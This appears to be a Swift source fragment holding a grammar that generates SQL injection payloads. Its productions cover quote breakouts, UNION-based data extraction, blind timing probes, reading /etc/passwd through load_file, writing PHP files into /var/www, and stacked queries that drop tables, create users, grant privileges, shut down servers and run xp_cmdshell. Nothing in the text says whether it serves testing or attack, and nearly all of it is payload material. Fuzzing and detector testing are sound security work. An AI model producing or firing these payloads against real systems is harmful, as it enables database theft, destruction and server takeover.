/// Injections as they are built: a way out of where the value stands, something to run, and a way to keep the statement whole.
let payloadGrammar = #"""
  start
    <bare>
    <bare>
    <singleQuoted>
    <singleQuoted>
    <doubleQuoted>
    <statement>
    <fuzz>
  bare
    <value><closing> <tail><bareEnd>
    <value><closing><tight><bareEnd>
    (<value>)<closing> <tail><bareEnd>
    <closers> <tail><bareEnd>
    <value> <commentMark>
    <arithmetic>
    <arithmetic><cut>
    <expression><cut>
    <expression>
  singleQuoted
    <prefix>'<closing> <tail> <reopenSingle>
    <prefix>'<closing> <tail> <reopenSingle>
    <prefix>'<closing><tight><cut>
    <prefix>'<closing> <tail><cut>
    <prefix>'<closing> <tail><cut>
    <prefix>'<closing><cut>
    <prefix>'<arith><call><arith>'
    <prefix>' <arith> <call> <arith> '
    <prefix>' <call> '
    <prefix>'<arith><subselect><arith>'<suffix>
    <prefix>'<blank><operator><blank>'<suffix>
    <short>'<blank><operator><blank>'<short>
    <short> '<operator>' <short>
    <prefix>'<blank><operator><blank><number><cut>
    <prefix>'<blank><operator><blank><number> <reopenSingle>
    <prefix>'<blank><operator><blank><operand><blank><operator><blank>'<suffix>
    <prefix>' <logic> <operand><blank><operator><blank>'<suffix>
    <prefix>','<word>'<tuple><cut>
    <prefix>',<call>)<cut>
    <prefix>',<subselect>)<cut>
    <prefix>', <word>='<word>
    <prefix>', <word>=<operand> where <condition><cut>
    <prefix>'),(<operand>,<operand>)<cut>
  doubleQuoted
    <prefix>"<closing> <tail> <reopenDouble>
    <prefix>"<closing> <tail> <reopenDouble>
    <prefix>"<closing><tight><cut>
    <prefix>"<closing> <tail><cut>
    <prefix>"<closing> <tail><cut>
    <prefix>"<closing><cut>
    <prefix>"<arith><call><arith>"
    <prefix>" <arith> <call> <arith> "
    <prefix>" <call> "
    <prefix>"<blank><operator><blank><operand><blank><operator><blank>"<suffix>
    <prefix>"<arith><subselect><arith>"<suffix>
    <prefix>" <logic> <operand><blank><operator><blank>"<suffix>
    " | <word> %<word>%\\<word> | "
    ' | <word> %<word>%\\<word> | '
  statement
    <select>
    <select><cut>
    (<select>)
    select <call>
    select <call><cut>
    <call>
    <telling>
    <telling><cut>
    ;<stacked><cut>
    <stacked2><cut>
    <value>; <stacked><cut>
    <value>;<stacked2><cut>
    <value>); <stacked><cut>
    <value>;select <call><cut>
    <value> /*!<number2><logic> <condition>*/
    <value> /*!<union> select*/ <list><cut>
    <union> select <list> from <word>
    <union> select <list><cut>
    { <word> <call> }
  tail
    <logic> <condition>
    <logic> <condition>
    <logic> <condition>
    <logic> <operand>
    <logic> <call>
    <logic> <not><call>
    <logic> <subselect>
    <logic> (<condition>
    <logic> (<condition>)
    <union> select <list>
    <union> select <list> from <word>
    <union> select <list> from <word> where <condition>
    <union> (select <list>
    <union> (select <list>)
    <union>(select <list> from <word>)
    <union>/**/select/**/<list>
    order by <number2>
    order by <number2>,<number2>
    order by <word>
    order by <subselect>
    group by <word> having <condition>
    having <condition>
    having <number>
    limit <number>,<number2> <union> select <list>
    limit <number2> procedure analyse(<call>,<number>)
    into outfile <string>
    into dumpfile <string>
    into outfile '/var/www/<word>.php
    into outfile "/var/www/<word>.php
    ; <stacked>
    ; <stacked2>
    ;select <call>
    and row(<number>,<number>)>(select count(*),concat(<call>,<number>) from <word> group by <word>)
    <logic> <operand> <between>
    <logic> <operand> <likes> <operand>
    where <condition>
    procedure analyse(<call>,<number>)
    RLIKE (select (case when (<condition>) then <number> else <number> end))
    <wordOperator> <subselect>
    waitfor delay '0:0:5'
  tight
    <marks><condition>
    <marks><call>
    <marks><operand>
    /**/<logic>/**/<condition>
    /**/<union>/**/select/**/<list>
    %0a<logic>(<condition>)
    <logic>(<condition>)
    ;<stacked>
    ;<stacked2>
    <arith><call>
    <arith><subselect>
    <arith>(<subselect>)
    =<subselect>
    =<number>
  condition
    <number>=<number>
    <number>=<number>
    <operand><comparison><operand>
    <operand> <comparison> <operand>
    <operand> <likes> <operand>
    <string>=<string>
    <call>=<operand>
    <call><comparison><number>
    <call>
    not <number>=<number>
    exists (select <list> from <word>)
    exists(select <list> from <word> where <condition>)
    <number> in (select <list> from <word>)
    <operand> <between>
    <word> is <not>null
    <word> like <string>
    <subselect>=<operand>
    <subselect><comparison><operand>
    <number>=<call>
    <number>=(select <number> from <word>)
    case when <condition> then <number> else <number> end
    (<condition>)
    <operand> <arith> <operand> = <operand>
    <word>=<word>
    <word>=<number>
    <word><comparison><operand>
    <word> <comparison> <operand>
    <word> is <not>null
    <number> <likes> <number>
  between
    between <number> and <number>
    not between <number> and <number>
  likes
    like
    not like
    rlike
    regexp
    sounds like
    in
    glob
    ilike
    is not
  wordOperator
    rlike
    regexp
    like
    div
    in
  operator
    =
    <comparison>
    <comparison>
    <arith>
    <arith>
    <wordOperator>
    <likes>
    <logic>
    <marks>
    mod
    xor
    <arith><sign>
  sign
    -
    +
    ~
    !
  marks
    ||
    &&
    |
    &
  comparison
    =
    <
    >
    <=
    >=
    <>
    !=
    <=>
  arith
    +
    -
    *
    /
    %
    ^
    ||
    |
    &
  arithmetic
    <number><arith><call>
    <number> <arith> <call>
    <number><arith><subselect>
    <word><arith><call>
    <number><arith><telling>
  expression
    (<subselect>)
    <word> having <condition>
    <word> having (<condition> <logic> <condition>)
    <word> having (<operand> <logic> <operand>)
    <word> having <operand> <logic> <operand>
    case <operand> when <operand> then <operand> end
    case <operand> when <operand> then <operand> else <operand> end
    <value> <logic> -<operand>
    <subselect>
    case when <condition> then <number> else <number> end
    (case when <condition> then <call> else <number> end)
    if(<condition>,<call>,<number>)
    <telling>
  subselect
    (select <operand>)
    (select <list> from <word>)
    (select <call>)
    (select <list> from <word> where <condition>)
    (select*from(select(<call>))<word>)
    (select(<call>))
    (select <number> from(select count(*),concat(<call>,floor(rand(0)*2))x from <word> group by x)a)
    (select case when <condition> then <number> else <number> end)
    (select (case when (<condition>) then <number> else <number> end))
  select
    select <list> from <word>
    select <list> from <word> where <condition>
    select * from <word>
    select <call>,<list> from <word>
    select <call> from <word>
    select <number>,<list>
    select @@version
    select * from <word> <logic> <condition>
  list
    <number>
    <number>,<number2>
    <number>,<number2>,<number2>
    null
    null,null,null
    *
    <word>
    <word>,<word>
    <call>
    <call>,<number2>
    <number>,<call>,<number2>
    <number>,<word>,<number2>
    concat(<word>,0x3a,<word>)
    @@version
    <number>,@@version
    <string>
    <string>,<number2>
    distinct <word>
    top 1 <word>
    all <word>
    (<call>)
    <number> as <word>
    <word> <word>
    <word> as <word>
    <word> as "<word>"
    <word> as 'x',<number>
    <number>,<word> as <word>,<number>
    <word> "<word>"
    <word>.*
  call
    <telling>
    <telling>
    <function>(<operand>)
    <function>(<operand>,<operand>)
    <function>(<function>(<operand>),<number>,<number>)
    <function>(<subselect>)
    <function>(<subselect>,<number>,<number>)
  telling
    sleep(<number2>)
    version()
    database()
    user()
    current_user()
    benchmark(<number2>,md5(<number>))
    pg_sleep(<number2>)
    load_file(<string>)
    load_file(0x2f6574632f706173737764)
    extractvalue(<number>,concat(0x7e,<call>))
    updatexml(<number>,concat(0x7e,<subselect>),<number>)
    char(<number>,<number>)
    chr(<number2>)||chr(<number>)
    ascii(substring((select <word> from <word>),1,1))
    utl_inaddr.get_host_address(<call>)
    dbms_pipe.receive_message(chr(65),<number2>)
    randomblob(<number2>)
    system_user()
  function
    ascii
    substring
    substr
    mid
    ord
    concat
    length
    hex
    unhex
    char
    convert
    cast
    lower
    if
    ifnull
    coalesce
    md5
    count
    count
    sum
    exp
    greatest
    elt
    left
    right
    group_concat
    make_set
    round
  stacked
    drop table <word>
    drop database <word>
    insert into <word> values(<operand>,<operand>)
    insert into <word>(<word>,<word>) values (<operand>,<operand>)
    update <word> set <word>=<operand>
    update <word> set <word>=<operand> where <condition>
    delete from <word>
    delete from <word> where <condition>
    create table <word> (<word> int)
    create user <word> identified by <string>
    alter table <word> add <word> int
    truncate table <word>
    grant all on <word> to <word>
    select <list>
    select <list> from <word>
    select * from <word>
    copy <word> from <string>
    begin declare @<word> int end
    if (<condition>) select <call>
    if <condition> waitfor delay <string>
    if <condition> shutdown
    set @<word>=<operand>
    use <word>
    call <word>(<operand>)
  stacked2
    exec xp_cmdshell <string>
    exec master..xp_cmdshell <string>
    exec(<string>)
    execute immediate <string>
    exec sp_<word> <string>
    use <word>; exec xp_cmdshell <string>
    use <word>; exec xp_cmdshell 'copy c:\<word>
    execute sp_<word> @<word>=<string>
    exec(@<word>)
    exec(@<word>+@<word>)
    exec <word>..sp_<word> @<word>=<operand>,@<word>=<operand>
    declare @<word> varchar(100) set @<word>=<operand>
    declare @<word> int;select @<word>=<number>
    waitfor delay <string>
    waitfor time <string>
    shutdown
    shutdown with nowait
    xp_cmdshell(<string>)
  logic
    or
    and
    or
    and
    xor
    ||
    &&
    OR
    AND
  fuzz
     ( <nested> )  --
    ( (SELECT <nested>) ) -- 
    <value> - (<nested>) --
    <prefix>' - ( <nested> )  --
  nested
    1
    'b'
    @a
    COS ( <nested>)
    ( BINARY ( <nested>))
    ( SELECT <nested>)
    ( SELECT <nested> LIMIT 1)
    <nested> in ( <nested>)
    <nested> OR <nested>
    <nested> * <nested>
    <nested> UNION ( SELECT <nested>)
  union
    union
    union all
    UNION
    UNION ALL
    union distinct
    intersect
    except
  not
    <empty>
    not 
    !
  empty
  value
    1
    -1
    0
    42
    999999.9
    -1
    10
    <word>
    null
    true
    @x
    0x31
    1.5
    ''
    'a'
    "a"
  prefix
    <empty>
    1
    -1
    0
    x
    admin
    foo bar
    a@b.c
    2020-01-01
  short
    <empty>
    A
    x
  suffix
    <empty>
    1
    x
    a
    %
    b' 
  closing
    <empty>
    <empty>
    <empty>
    )
    ))
  closers
    )
    ))
  blank
    <empty>
     <empty>
  operand
    1
    <number>
    <number>
    <string>
    <word>
    @@version
    null
    true
    0x41
    <call>
    -<number>
    (<number>)
    <number><arith><number>
    <word>.<word>
    current_user
    @x
  number
    1
    0
    2
    7
    1337
  number2
    5
    10
    99
    3
  word
    users
    id
    name
    password
    x
    information_schema.tables
    admin
    tbl
    `users`
    column
    t1
  string
    'a'
    'x'
    '1'
    ''
    "a"
    0x61
    char(97)
    'abc%'
    N'a'
  tuple
    <empty>
    )
    ,<operand>)
    ,<operand>,<operand>)
  cut
    --
     --
     -- -
    -- x
    #
     #
    /*
     /*
    ;--
    ;#
    ;%00
    ; -- x
    )--
    -- -
  commentMark
    or 1=1--
    or 1=1#
    union--
  bareEnd
    <empty>
    <empty>
    <cut>
    <cut>
    <empty> limit 1
    <empty> limit 0,1
    ;
  reopenSingle
    and '1'='1
    and 'a'='a
    or '1'='1
    or 'a'='b
    or '
    and '1
    or ('1'='1
    and ('x'='x
    and 'a' like 'a
    || '
    and 1='1
    or x='
    || 'a
    and '1'>'0
    like '
    or "a"='a
  reopenDouble
    and "1"="1
    and "a"="a
    or "1"="1
    or "a"="b
    or "
    and "1
    or ("1"="1
    and "a" like "a
    || "
    and 1="1
    or x="
    like "
  """#
